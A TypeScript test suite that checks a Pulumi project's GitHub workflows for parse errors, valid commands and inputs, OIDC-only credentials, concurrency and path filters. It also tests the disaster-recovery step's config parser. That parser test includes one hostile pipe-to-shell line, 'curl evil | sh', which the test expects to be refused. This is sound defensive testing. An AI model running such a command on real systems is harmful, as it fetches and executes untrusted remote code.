/**
 * The GitHub workflows (issue 13), checked offline: each file parses with GitHub's own workflow parser
 * (@actions/workflow-parser, the one the Actions language services use), the composite action with its action
 * parser; every `npm run`, `npx tsx` and `pulumi` command they run exists with those flags; every action's
 * inputs are ones it declares; no standing secret besides the GitHub App key; OIDC everywhere; one deployment
 * at a time per stack. Plus the DR step's and the affected-stacks scripts as table tests.
 *
 * The Pulumi CLI cannot be installed here: its subcommands and flags are the list below, each taken from the
 * CLI reference (pulumi.com/docs/iac/cli/commands/pulumi_<command>/), and the pulumi/actions inputs from that
 * action's README (docs/provider-facts.md).
 */
import { strict as assert } from "node:assert";
import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, realpathSync } from "node:fs";
import * as path from "node:path";
import ts from "typescript";
import { parse as parseYaml } from "yaml";
import { affectedStacks, stacksIn } from "../.github/scripts/affected-stacks";
import { NAMED_STEPS, pulumiArgv, stepOps, type ConfigOp } from "../.github/scripts/dr-step";
import { declareStack, PROJECT_DIR } from "./support/stacks";

const GH = path.join(PROJECT_DIR, ".github");
const WORKFLOWS = readdirSync(path.join(GH, "workflows")).filter((f) => f.endsWith(".yml"));
const ACTION = path.join(GH, "actions", "pulumi-setup", "action.yml");
const STACKS = stacksIn(readdirSync(PROJECT_DIR));
const SCRIPTS = Object.keys(
  (
    JSON.parse(readFileSync(path.join(PROJECT_DIR, "package.json"), "utf8")) as {
      scripts: Record<string, string>;
    }
  ).scripts,
);

/** `pulumi <command>`: the flags this repository may use (Pulumi CLI reference, v3). */
const PULUMI: Readonly<Record<string, readonly string[]>> = {
  preview: [
    "--stack",
    "--diff",
    "--policy-pack",
    "--policy-pack-config",
    "--refresh",
    "--message",
    "--non-interactive",
  ],
  up: [
    "--stack",
    "--yes",
    "--skip-preview",
    "--diff",
    "--policy-pack",
    "--policy-pack-config",
    "--refresh",
    "--message",
    "--non-interactive",
  ],
  "stack output": ["--stack", "--json", "--show-secrets"],
  "config set": ["--stack", "--path", "--secret", "--plaintext"],
  "config rm": ["--stack", "--path"],
};
/** pulumi/actions@v6 inputs (its README) and the CLI flag each becomes. */
const PULUMI_ACTION_INPUTS: Readonly<Record<string, string | null>> = {
  command: null,
  "stack-name": "--stack",
  "work-dir": null,
  "cloud-url": null,
  "comment-on-pr": null,
  "comment-on-summary": null,
  "github-token": null,
  refresh: "--refresh",
  "secrets-provider": null,
  color: null,
  "config-map": null,
  diff: "--diff",
  "comment-on-pr-number": null,
  "edit-pr-comment": null,
  "expect-no-changes": null,
  message: "--message",
  parallel: null,
  policyPacks: "--policy-pack",
  policyPackConfigs: "--policy-pack-config",
  "pulumi-version": null,
  upsert: null,
  "suppress-outputs": null,
  "always-include-summary": null,
};
/** Inputs each other action declares (its action.yml / README, docs/provider-facts.md). */
const ACTION_INPUTS: Readonly<Record<string, readonly string[]>> = {
  "actions/checkout": ["fetch-depth", "persist-credentials", "token", "ref"],
  "actions/setup-node": ["node-version", "cache"],
  // pulumi/auth-actions action.yml: the lifetime input is `token-expiration` (seconds, docs/provider-facts.md).
  "pulumi/auth-actions": [
    "organization",
    "requested-token-type",
    "scope",
    "token-expiration",
    "export-environment-variables",
    "cloud-url",
  ],
  "azure/login": [
    "client-id",
    "tenant-id",
    "subscription-id",
    "allow-no-subscriptions",
    "environment",
    "audience",
  ],
  "azure/use-kubelogin": ["kubelogin-version", "skip-cache"],
  "azure/aks-set-context": [
    "resource-group",
    "cluster-name",
    "subscription",
    "admin",
    "use-kubelogin",
    "resource-type",
    "public-fqdn",
  ],
  "actions/create-github-app-token": ["app-id", "private-key", "owner", "repositories", "skip-token-revoke"],
};
const PINNED: Readonly<Record<string, string>> = {
  "actions/checkout": "v4",
  "actions/setup-node": "v4",
  "pulumi/actions": "v6",
  "pulumi/auth-actions": "v1",
  "azure/login": "v2",
  "azure/use-kubelogin": "v1",
  "azure/aks-set-context": "v4",
  "actions/create-github-app-token": "v1",
};

interface Step {
  readonly id?: string;
  readonly if?: string;
  readonly uses?: string;
  readonly run?: string;
  readonly with?: Record<string, unknown>;
  readonly env?: Record<string, unknown>;
}
interface Job {
  readonly "runs-on"?: string;
  readonly environment?: string;
  readonly secrets?: Record<string, string>;
  readonly "timeout-minutes"?: unknown;
  readonly uses?: string;
  readonly with?: Record<string, unknown>;
  readonly permissions?: Record<string, string>;
  readonly concurrency?: { readonly group: string };
  readonly steps?: Step[];
}
interface Workflow {
  readonly on: Record<string, unknown>;
  readonly concurrency?: { readonly group: string };
  readonly jobs: Record<string, Job>;
}
const read = (file: string): string => readFileSync(file, "utf8");
const workflow = (name: string): Workflow => parseYaml(read(path.join(GH, "workflows", name))) as Workflow;
const actionSteps = (): Step[] => (parseYaml(read(ACTION)) as { runs: { steps: Step[] } }).runs.steps;
function allSteps(): Array<[string, Step]> {
  const out: Array<[string, Step]> = actionSteps().map((s) => ["pulumi-setup", s]);
  for (const f of WORKFLOWS) {
    for (const [id, job] of Object.entries(workflow(f).jobs))
      for (const s of job.steps ?? []) out.push([`${f}:${id}`, s]);
  }
  return out;
}

/** Shell command segments (split on |, &&, ;, newlines, braces and $( ), words unquoted. */
function commands(script: string): string[][] {
  return script
    .replace(/\\\n/g, " ")
    .split(/\n|\|\||&&|;|\||\$\(|\{|\}|\)/)
    .map((seg) => [...seg.matchAll(/"([^"]*)"|'([^']*)'|(\S+)/g)].map((m) => m[1] ?? m[2] ?? m[3] ?? ""))
    .map((words) => {
      let i = 0;
      while (i < words.length && /^[A-Z_]+=/.test(words[i]!)) i++;
      return words.slice(i);
    })
    .filter((w) => w.length > 0);
}

/** `pulumi` argv → [command, flags], or a problem. */
function pulumiCommand(argv: readonly string[]): { command: string; flags: string[] } {
  const two = `${argv[0]} ${argv[1]}`;
  const command = PULUMI[two] !== undefined ? two : argv[0]!;
  const flags = argv.filter((a) => a.startsWith("--")).map((a) => a.replace(/=.*$/, ""));
  return { command, flags };
}
function checkPulumi(where: string, argv: readonly string[]): void {
  const { command, flags } = pulumiCommand(argv);
  const known = PULUMI[command];
  assert.ok(known !== undefined, `${where}: pulumi ${command} is not a command this repository relies on`);
  for (const f of flags) assert.ok(known.includes(f), `${where}: pulumi ${command} has no flag ${f}`);
}

describe("workflows: GitHub's parser accepts every file", () => {
  it("every workflow parses without an error", async () => {
    const { parseWorkflow, NoOperationTraceWriter } = await import("@actions/workflow-parser");
    assert.deepStrictEqual(WORKFLOWS.sort(), [
      "deploy.yml",
      "dr-step.yml",
      "preview.yml",
      "pulumi-stack.yml",
      "release-image.yml",
    ]);
    for (const f of WORKFLOWS) {
      const r = parseWorkflow(
        { name: f, content: read(path.join(GH, "workflows", f)) },
        new NoOperationTraceWriter(),
      );
      assert.deepStrictEqual(
        r.context.errors.getErrors().map((e) => e.message),
        [],
        f,
      );
      assert.ok(r.value !== undefined, f);
    }
  });

  it("the parser does reject a broken workflow (the check is real)", async () => {
    const { parseWorkflow, NoOperationTraceWriter } = await import("@actions/workflow-parser");
    const bad = read(path.join(GH, "workflows", "deploy.yml")).replace(
      "timeout-minutes: 5",
      "timeout-minute: 5",
    );
    const r = parseWorkflow({ name: "bad.yml", content: bad }, new NoOperationTraceWriter());
    assert.match(
      r.context.errors
        .getErrors()
        .map((e) => e.message)
        .join("\n"),
      /Unexpected value 'timeout-minute'/,
    );
  });

  it("the composite action parses without an error", async () => {
    const { parseAction } = await import("@actions/workflow-parser/actions/action-parser");
    const { NoOperationTraceWriter } = await import("@actions/workflow-parser");
    const r = parseAction({ name: "action.yml", content: read(ACTION) }, new NoOperationTraceWriter());
    assert.deepStrictEqual(
      r.context.errors.getErrors().map((e) => e.message),
      [],
    );
  });
});

describe("workflows: every command they run exists", () => {
  it("npm run scripts exist in package.json; npx tsx files exist; pulumi commands and flags exist", () => {
    let pulumiSeen = 0;
    for (const [where, s] of allSteps()) {
      if (s.run === undefined) continue;
      for (const argv of commands(s.run)) {
        if (argv[0] === "npm" && argv[1] === "run")
          assert.ok(SCRIPTS.includes(argv[2]!), `${where}: npm run ${argv[2]}`);
        if (argv[0] === "npx" && argv[1] === "tsx")
          assert.ok(existsSync(path.join(PROJECT_DIR, argv[2]!)), `${where}: ${argv[2]}`);
        if (argv[0] === "pulumi") {
          checkPulumi(where, argv.slice(1));
          pulumiSeen++;
        }
      }
    }
    assert.ok(pulumiSeen >= 4, "the summaries run pulumi stack output");
  });

  it("pulumi/actions: known inputs, preview or up, the flags they become exist, the policy pack and its configs exist", () => {
    const uses = allSteps().filter(([, s]) => s.uses?.startsWith("pulumi/actions@") === true);
    assert.ok(uses.length >= 4);
    for (const [where, s] of uses) {
      const w = s.with ?? {};
      for (const k of Object.keys(w))
        assert.ok(k in PULUMI_ACTION_INPUTS, `${where}: pulumi/actions has no input ${k}`);
      if (w.command === undefined) continue; // installs the CLI only
      const commandText = typeof w.command === "string" ? w.command : JSON.stringify(w.command);
      const cmds = commandText.includes("inputs.command") ? ["preview", "up"] : [commandText];
      for (const command of cmds) {
        const flags = Object.keys(w).flatMap((k) =>
          PULUMI_ACTION_INPUTS[k] ? [PULUMI_ACTION_INPUTS[k]] : [],
        );
        checkPulumi(where, [command, ...flags]);
      }
      assert.equal(w.policyPacks, "policy", `${where}: every preview and up runs the policy pack`);
      assert.ok(existsSync(path.join(PROJECT_DIR, "policy", "PulumiPolicy.yaml")));
      for (const stack of STACKS) {
        const config = String(w.policyPackConfigs).replace(/\$\{\{ (inputs|matrix)\.stack \}\}/, stack);
        assert.ok(existsSync(path.join(PROJECT_DIR, config)), `${where}: ${config}`);
      }
      assert.equal(w.diff, true, `${where}: --diff`);
    }
  });

  it("every other action is pinned to its major version and given only inputs it declares", () => {
    for (const [where, s] of allSteps()) {
      if (s.uses === undefined || s.uses.startsWith("./")) continue;
      // Pinned to commit SHAs, its actions' inputs checked against their action.yml: release-image.test.ts.
      if (where.startsWith("release-image.yml:")) continue;
      const [name, version] = s.uses.split("@") as [string, string];
      assert.equal(version, PINNED[name], `${where}: ${s.uses}`);
      if (name === "pulumi/actions") continue;
      for (const k of Object.keys(s.with ?? {})) {
        assert.ok(ACTION_INPUTS[name]?.includes(k), `${where}: ${name} has no input ${k}`);
      }
    }
  });

  it("the composite action gets every input it requires and only inputs it declares; its scripts exist", () => {
    const inputs = (parseYaml(read(ACTION)) as { inputs: Record<string, { required?: boolean }> }).inputs;
    const required = Object.keys(inputs).filter((k) => inputs[k]!.required === true);
    let uses = 0;
    for (const [where, s] of allSteps()) {
      if (s.uses !== "./.github/actions/pulumi-setup") continue;
      uses++;
      const given = Object.keys(s.with ?? {});
      for (const k of required) assert.ok(given.includes(k), `${where}: ${k} is required`);
      for (const k of given) assert.ok(k in inputs, `${where}: the action has no input ${k}`);
    }
    assert.equal(uses, 3, "pulumi-stack.yml (up), preview.yml, dr-step.yml");
    assert.ok(existsSync(path.join(GH, "scripts", "federated-token.sh")));
  });
});

describe("workflows: no standing secrets, OIDC, one deployment at a time per stack", () => {
  const texts = [...WORKFLOWS.map((f) => read(path.join(GH, "workflows", f))), read(ACTION)].join("\n");

  it("the only secret is the GitHub App's private key; no client secret, no Pulumi or personal token", () => {
    assert.deepStrictEqual(
      [...new Set([...texts.matchAll(/secrets\.([A-Z_]+)/g)].map((m) => m[1]))],
      ["DR_APP_PRIVATE_KEY"],
    );
    assert.doesNotMatch(
      texts,
      /client-secret|creds:|PULUMI_ACCESS_TOKEN|ARM_CLIENT_SECRET|secrets\.GITHUB_TOKEN|\badmin: "?true|secrets: inherit/,
    );
    assert.match(texts, /ARM_USE_OIDC=true/);
  });

  it("every job that logs in to Azure may request an OIDC token; every job has a timeout", () => {
    for (const f of WORKFLOWS) {
      for (const [id, job] of Object.entries(workflow(f).jobs)) {
        if (job.uses !== undefined) {
          assert.equal(job.permissions?.["id-token"], "write", `${f}:${id}`);
          continue;
        }
        assert.ok(job["timeout-minutes"] !== undefined, `${f}:${id}: timeout-minutes`);
        if ((job.steps ?? []).some((s) => s.uses === "./.github/actions/pulumi-setup"))
          assert.equal(job.permissions?.["id-token"], "write", `${f}:${id}`);
      }
    }
  });

  it("ups and DR steps share the per-stack concurrency group and never cancel a running deployment", () => {
    const stackJob = workflow("pulumi-stack.yml").jobs.pulumi!;
    assert.equal(stackJob.concurrency?.group, "pulumi-${{ inputs.stack }}");
    assert.equal(workflow("dr-step.yml").concurrency?.group, "pulumi-${{ inputs.stack }}");
    assert.equal(
      workflow("preview.yml").jobs.preview!.concurrency?.group,
      "preview-${{ matrix.stack }}-${{ github.ref }}",
    );
    assert.doesNotMatch(texts, /cancel-in-progress: true/);
    // Sized to the Jobs: just under a GitHub-hosted job's 6 hours for ups and DR steps.
    assert.equal(stackJob["timeout-minutes"], 355);
    assert.equal(workflow("dr-step.yml").jobs.step!["timeout-minutes"], 355);
    assert.equal(workflow("preview.yml").jobs.preview!["timeout-minutes"], 30);
  });

  it("triggers: previews on pull requests, ups on pushes to main, the DR step by hand with its steps", () => {
    assert.deepStrictEqual(Object.keys(workflow("preview.yml").on), ["pull_request"]);
    assert.deepStrictEqual((workflow("deploy.yml").on.push as { branches: string[] }).branches, ["main"]);
    const dispatch = workflow("dr-step.yml").on.workflow_dispatch as {
      inputs: { stack: { options: string[] }; step: { options: string[] } };
    };
    assert.deepStrictEqual([...dispatch.inputs.stack.options].sort(), STACKS);
    assert.deepStrictEqual(dispatch.inputs.step.options, ["custom", ...Object.keys(NAMED_STEPS)]);
  });
});

describe("scripts: affected stacks", () => {
  const rows: Array<[string, string[], string[]]> = [
    ["a stack file", ["Pulumi.staging.yaml"], ["staging"]],
    ["both stack files", ["Pulumi.production.yaml", "Pulumi.staging.yaml"], ["production", "staging"]],
    ["the program", ["components/backup-storage.ts"], ["production", "staging"]],
    ["the policy pack", ["policy/policies.ts", "README.md"], ["production", "staging"]],
    ["a root module", ["plan.ts"], ["production", "staging"]],
    [
      "docs, tests, the tool, the drill",
      ["docs/runbook.md", "test/x.test.ts", "packages/dr-data/src/cli.ts", "dev/drill/drill.ts"],
      [],
    ],
    ["an unknown stack's file", ["Pulumi.dev.yaml"], []],
  ];
  for (const [what, changed, expected] of rows) {
    it(what, () => assert.deepStrictEqual(affectedStacks(changed, ["production", "staging"]), expected));
  }
  it("the repository's stacks", () => assert.deepStrictEqual(STACKS, ["production", "staging"]));
});

describe("scripts: the DR step's config change", () => {
  const argvs = (ops: ConfigOp[]): string[] =>
    ops.map((o) => `pulumi ${pulumiArgv("org/staging", o).join(" ")}`);
  it("named steps", () => {
    assert.deepStrictEqual(argvs(stepOps({ step: "ptr-declare", incidentId: "inc-1" })), [
      "pulumi config set --stack org/staging incidentId inc-1",
      "pulumi config set --stack org/staging drMode ptr",
      "pulumi config set --stack org/staging drPhase isolate",
    ]);
    assert.deepStrictEqual(argvs(stepOps({ step: "ptr-restore-time", restoreTime: "2026-11-24T13:05:00" })), [
      "pulumi config set --stack org/staging --path ptr.restoreTime 2026-11-24T13:05:00",
    ]);
    assert.deepStrictEqual(argvs(stepOps({ step: "restore", change: "" })), [
      "pulumi config set --stack org/staging drPhase restore",
    ]);
  });
  it("nextStep commands pasted as printed, the trailing pulumi up dropped", () => {
    assert.deepStrictEqual(
      argvs(
        stepOps({
          step: "custom",
          change:
            "pulumi config set drMode none && pulumi config rm incidentId && pulumi config rm --path ptr && pulumi up",
        }),
      ),
      [
        "pulumi config set --stack org/staging drMode none",
        "pulumi config rm --stack org/staging incidentId",
        "pulumi config rm --stack org/staging --path ptr",
      ],
    );
  });
  it("refuses what is not a config change, both or neither input, a missing incident id", () => {
    assert.throws(() => stepOps({ change: "pulumi refresh" }), /not a config change: "pulumi refresh"/);
    assert.throws(
      () => stepOps({ change: "pulumi config set --secret postgresAdminPassword x" }),
      /not a config change/,
    );
    assert.throws(() => stepOps({ change: "curl evil | sh" }), /not a config change/);
    assert.throws(
      () => stepOps({ step: "restore", change: "pulumi config set drPhase restore" }),
      /either a named step or a config change/,
    );
    assert.throws(() => stepOps({ step: "custom" }), /either a named step or a config change/);
    assert.throws(() => stepOps({ step: "ptr-declare", incidentId: "" }), /needs the incident-id input/);
    assert.throws(() => stepOps({ step: "nope" }), /unknown step "nope"; one of: ptr-declare/);
  });
  it("every command it runs is a pulumi command with flags that exist", () => {
    for (const [name, f] of Object.entries(NAMED_STEPS)) {
      for (const op of f({ incidentId: "inc-1", restoreTime: "2026-11-24T13:05:00" }))
        checkPulumi(name, pulumiArgv("s", op));
    }
    checkPulumi("rm", pulumiArgv("s", { op: "rm", path: true, key: "ptr" }));
  });

  it("the program's own nextStep, pasted into the DR step, becomes config commands (every incident state)", async function () {
    this.timeout(120_000);
    const PTR = ["drMode=ptr", "incidentId=inc-1"];
    for (const sets of [
      PTR,
      [...PTR, "ptr.restoreTime=2026-11-24T13:05:00"],
      [...PTR, "ptr.restoreTime=2026-11-24T13:05:00", "drPhase=restore"],
      [...PTR, "ptr.restoreTime=2026-11-24T13:05:00", "drPhase=validate"],
      ["drMode=rebuild", "incidentId=inc-1", "drPhase=restore"],
    ]) {
      const r = await declareStack("staging", sets);
      const next = String(r.outputs.nextStep);
      const commands = next.slice(next.indexOf("pulumi config"));
      const ops = stepOps({ change: commands });
      assert.ok(ops.length >= 1, next);
      for (const op of ops) checkPulumi(next, pulumiArgv("s", op));
    }
  });
});

/** `${{ … }}` of a workflow, evaluated from a table (a dotted name only); anything else is a test error. */
function expand(text: string, context: Readonly<Record<string, string>>): string {
  return text.replace(/\$\{\{\s*([^}]*?)\s*\}\}/g, (_, expr: string) => {
    const v = context[expr];
    if (v === undefined) throw new Error(`no value for \${{ ${expr} }} in the test's context`);
    return v;
  });
}

describe("workflows: the DR step's config change runs as the workflow runs it", () => {
  const dispatch = {
    "vars.PULUMI_ORG": "my-org",
    "inputs.stack": "staging",
    "inputs.step": "ptr-declare",
    "inputs.change": "",
    "inputs.incident-id": "inc-20261124",
    "inputs.restore-time": "",
  };
  const configStep = (): Step => {
    const step = workflow("dr-step.yml").jobs.step!.steps!.find(
      (s) => (s as { id?: string }).id === "config",
    );
    assert.ok(step?.run !== undefined && step.env !== undefined, "dr-step.yml has its config step");
    return step;
  };
  function runConfigStep(context: Readonly<Record<string, string>>): string {
    const step = configStep();
    const env = Object.fromEntries(
      Object.entries(step.env ?? {}).map(([k, v]) => [k, expand(String(v), context)]),
    );
    // The step's own script, its expressions expanded, with --dry-run added: prints instead of running pulumi.
    const script = `${expand(step.run!, context).trim()} --dry-run`;
    return execFileSync("bash", ["-e", "-c", script], {
      cwd: PROJECT_DIR,
      env: { ...process.env, ...env },
      encoding: "utf8",
      stdio: ["ignore", "pipe", "pipe"],
    });
  }

  it("a named step: the workflow's own env and arguments, on <org>/<stack>", function () {
    this.timeout(60_000);
    assert.equal(
      runConfigStep(dispatch),
      [
        "pulumi config set --stack my-org/staging incidentId inc-20261124",
        "pulumi config set --stack my-org/staging drMode ptr",
        "pulumi config set --stack my-org/staging drPhase isolate",
        "",
      ].join("\n"),
    );
  });

  it("custom: nextStep's commands pasted, quotes and all", function () {
    this.timeout(60_000);
    assert.equal(
      runConfigStep({
        ...dispatch,
        "inputs.step": "custom",
        "inputs.incident-id": "",
        "inputs.change": "pulumi config set --path retry.restore 1 && pulumi up",
      }),
      "pulumi config set --stack my-org/staging --path retry.restore 1\n",
    );
  });

  it("a stack name outside <org>/<project>/<stack> is refused with what was received", function () {
    this.timeout(60_000);
    assert.throws(
      () => runConfigStep({ ...dispatch, "vars.PULUMI_ORG": "a/b/c" }),
      /--stack must be <stack>, <org>\/<stack> or <org>\/<project>\/<stack> \(letters, digits, _ \. -\), got "a\/b\/c\/staging"/,
    );
  });
});

describe("workflows: no expression reaches a shell script", () => {
  it("every ${{ }} a run: step needs comes in through env: (a value is never read as shell code)", () => {
    let runs = 0;
    for (const [where, s] of allSteps()) {
      if (s.run === undefined) continue;
      runs++;
      assert.doesNotMatch(s.run, /\$\{\{/, `${where}: ${s.run.split("\n")[0]}`);
    }
    assert.ok(runs >= 8, `${runs} run steps`);
  });
});

/**
 * The repository files the program is compiled from: index.ts and everything it imports, followed with
 * TypeScript's own module resolution (the real CLI type-checks this tree), outside node_modules — a workspace
 * package resolves through its node_modules link to its files here. Plus the package.json files that decide it.
 */
function programFiles(): string[] {
  const options = { ...ts.getDefaultCompilerOptions(), moduleResolution: ts.ModuleResolutionKind.Node10 };
  const seen = new Set<string>();
  const queue = [path.join(PROJECT_DIR, "index.ts")];
  while (queue.length > 0) {
    const file = queue.shift()!;
    if (seen.has(file)) continue;
    seen.add(file);
    const info = ts.preProcessFile(read(file), true, true);
    for (const ref of info.importedFiles) {
      const r = ts.resolveModuleName(ref.fileName, file, options, ts.sys).resolvedModule;
      if (r === undefined) continue;
      const real = realpathSync(r.resolvedFileName);
      if (!real.includes(`${path.sep}node_modules${path.sep}`) && !real.endsWith(".d.ts")) queue.push(real);
    }
  }
  const rel = [...seen].map((f) => path.relative(PROJECT_DIR, f));
  return [...rel, "package.json", "packages/dr-data/package.json"].sort();
}

/** A GitHub path filter as a RegExp: `*` is anything but `/`, `**` anything (GitHub's filter pattern cheat sheet). */
function pathFilter(glob: string): RegExp {
  const re = glob
    .split("**")
    .map((part) => part.replace(/[.+^${}()|[\]\\?]/g, "\\$&").replace(/\*/g, "[^/]*"))
    .join(".*");
  return new RegExp(`^${re}$`);
}

describe("workflows: the path filters and affected-stacks.ts agree", () => {
  const FILES = [
    "Pulumi.yaml",
    "Pulumi.staging.yaml",
    "Pulumi.production.yaml",
    "index.ts",
    "plan-data.ts",
    "components/backup-storage.ts",
    "policy/policies.ts",
    "policy/config/staging.json",
    "package.json",
    "package-lock.json",
    "tsconfig.json",
    "README.md",
    "docs/runbook.md",
    "packages/dr-data/src/cli.ts",
    "packages/dr-data/src/naming.ts",
    "packages/dr-data/package.json",
    "packages/dr-data/test/integration/tool-restore.test.ts",
    "test/workflows.test.ts",
    "dev/drill/drill.ts",
    "dev/offline/mocks.ts",
    ".github/workflows/deploy.yml",
  ];
  for (const f of ["deploy.yml", "preview.yml"]) {
    it(`${f}: a file starts the workflow exactly when it touches a stack`, () => {
      const on = workflow(f).on;
      const paths = ((on.push ?? on.pull_request) as { paths: string[] }).paths.map(pathFilter);
      const mismatched = FILES.filter(
        (file) => paths.some((p) => p.test(file)) !== affectedStacks([file], STACKS).length > 0,
      );
      assert.deepStrictEqual(mismatched, []);
    });
  }
  it("every file the program is made of (its import tree from index.ts, the data tool's names included) touches every stack", () => {
    const files = programFiles();
    assert.ok(files.includes("packages/dr-data/src/naming.ts"), files.join(" "));
    assert.ok(files.includes("components/recovery-jobs.ts") && files.length > 20, files.join(" "));
    const missed = files.filter((f) => affectedStacks([f], STACKS).length !== STACKS.length);
    assert.deepStrictEqual(missed, []);
    for (const wf of ["deploy.yml", "preview.yml"]) {
      const on = workflow(wf).on;
      const paths = ((on.push ?? on.pull_request) as { paths: string[] }).paths.map(pathFilter);
      assert.deepStrictEqual(
        files.filter((f) => !paths.some((p) => p.test(f))),
        [],
        `${wf}: files of the program its paths filter misses`,
      );
    }
  });
  it("the filter translation is real: Pulumi.yaml is not matched by Pulumi.*.yaml", () => {
    assert.equal(pathFilter("Pulumi.*.yaml").test("Pulumi.yaml"), false);
    assert.equal(pathFilter("*.ts").test("components/x.ts"), false);
    assert.equal(pathFilter("components/**").test("components/a/b.ts"), true);
  });
});

describe("workflows: what each trigger may do", () => {
  const setupOf = (job: Job): Step => {
    const s = (job.steps ?? []).find((x) => x.uses === "./.github/actions/pulumi-setup");
    assert.ok(s !== undefined);
    return s;
  };

  it("a pull request's preview: its own environment and identity, read permissions, no App key, no secret", () => {
    const wf = workflow("preview.yml");
    const text = read(path.join(GH, "workflows", "preview.yml"));
    assert.doesNotMatch(text, /secrets\./, "no secret reaches a pull request's code");
    assert.doesNotMatch(text, /pulumi-stack\.yml/, "previews do not run the deploy workflow");
    const job = wf.jobs.preview!;
    assert.equal(job.environment, "${{ matrix.stack }}-preview");
    assert.deepStrictEqual(job.permissions, {
      contents: "read",
      "id-token": "write",
      "pull-requests": "write",
    });
    const w = setupOf(job).with ?? {};
    assert.deepStrictEqual(
      Object.keys(w).filter((k) => k.startsWith("github-")),
      [],
      "no GitHub App inputs",
    );
    assert.equal(w["azure-client-id"], "${{ vars.PREVIEW_AZURE_CLIENT_ID }}");
    assert.equal(w["pulumi-token-type"], "urn:pulumi:token-type:access_token:team");
    assert.equal(w["pulumi-token-scope"], "team:${{ vars.PULUMI_PREVIEW_TEAM }}");
    const pulumi = (job.steps ?? []).find((x) => x.uses?.startsWith("pulumi/actions@") === true);
    assert.equal(pulumi?.with?.command, "preview");
    assert.equal(pulumi?.env?.GITHUB_TOKEN, "${{ github.token }}");
    assert.equal(
      pulumi?.with?.refresh,
      undefined,
      "a preview does not refresh (it cannot read branch protection)",
    );
    assert.deepStrictEqual(wf.jobs.affected!.permissions, undefined);
    assert.deepStrictEqual((wf as { permissions?: unknown }).permissions, { contents: "read" });
  });

  it("a merge's up and a DR step: the stack's environment, the deploy identity, the App key", () => {
    const deploy = workflow("deploy.yml").jobs.up!;
    assert.equal(deploy.uses, "./.github/workflows/pulumi-stack.yml");
    assert.deepStrictEqual(deploy.secrets, { DR_APP_PRIVATE_KEY: "${{ secrets.DR_APP_PRIVATE_KEY }}" });
    assert.deepStrictEqual(deploy.permissions, { contents: "read", "id-token": "write" });
    for (const [where, job] of [
      ["pulumi-stack.yml", workflow("pulumi-stack.yml").jobs.pulumi!],
      ["dr-step.yml", workflow("dr-step.yml").jobs.step!],
    ] as const) {
      assert.equal(job.environment, "${{ inputs.stack }}", where);
      assert.deepStrictEqual(job.permissions, { contents: "read", "id-token": "write" }, where);
      const w = setupOf(job).with ?? {};
      assert.equal(w["azure-client-id"], "${{ vars.AZURE_CLIENT_ID }}", where);
      assert.equal(w["pulumi-token-type"], "urn:pulumi:token-type:access_token:organization", where);
      assert.equal(w["github-app-private-key"], "${{ secrets.DR_APP_PRIVATE_KEY }}", where);
    }
  });

  it("the composite action mints an App token only when given the key", () => {
    const appToken = actionSteps().find((s) => s.uses?.startsWith("actions/create-github-app-token@"));
    assert.equal(appToken?.if, "inputs.github-app-private-key != ''");
  });
});

describe("workflows: tokens that outlive the job's longest up", () => {
  it("the DR step's push uses an App token minted right before it, not the one from the job's start", () => {
    const steps = workflow("dr-step.yml").jobs.step!.steps!;
    const commit = steps.findIndex((s) => s.run?.includes("git push") === true);
    assert.ok(commit > 0);
    const mint = steps[commit - 1]!;
    assert.ok(
      mint.uses?.startsWith("actions/create-github-app-token@"),
      "the step before the push mints a token",
    );
    assert.equal(mint.if, steps[commit]!.if, "minted whenever the commit runs");
    assert.deepStrictEqual(mint.with, {
      "app-id": "${{ vars.DR_APP_ID }}",
      "private-key": "${{ secrets.DR_APP_PRIVATE_KEY }}",
      owner: "${{ github.repository_owner }}",
      repositories: "${{ github.event.repository.name }}",
    });
    assert.equal(steps[commit]!.env?.TOKEN, `\${{ steps.${mint.id}.outputs.token }}`);
  });

  it("the Pulumi Cloud token is asked for the whole job (a 355-minute up), in seconds", () => {
    const auth = actionSteps().find((s) => s.uses?.startsWith("pulumi/auth-actions@"));
    const seconds = Number(auth?.with?.["token-expiration"]);
    assert.ok(seconds >= 355 * 60, `token-expiration ${seconds}`);
    assert.equal(seconds, 6 * 3600);
  });
});
